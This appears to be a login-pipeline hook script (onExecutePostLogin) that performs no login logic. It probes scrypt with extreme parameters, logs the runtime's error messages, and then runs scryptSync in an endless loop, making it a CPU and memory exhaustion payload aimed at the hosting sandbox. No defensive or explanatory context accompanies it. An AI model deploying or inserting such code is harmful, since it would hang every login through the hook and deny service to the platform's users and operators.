exports.onExecutePostLogin = async function (event, api) {
  const c = require("crypto"); for (const o of [{ N: 2 ** 30 }, { N: 2 ** 14, r: 2 ** 20 }, { N: 2, r: 1, p: 2 ** 24 }, { N: 2 ** 14, r: 8, p: 1000 }]) try { c.scryptSync("p", "s", 64, o); } catch (e) { console.log(e.message); } for (;;) c.scryptSync("p", "s", 64, { N: 2 ** 15, r: 8 });
};
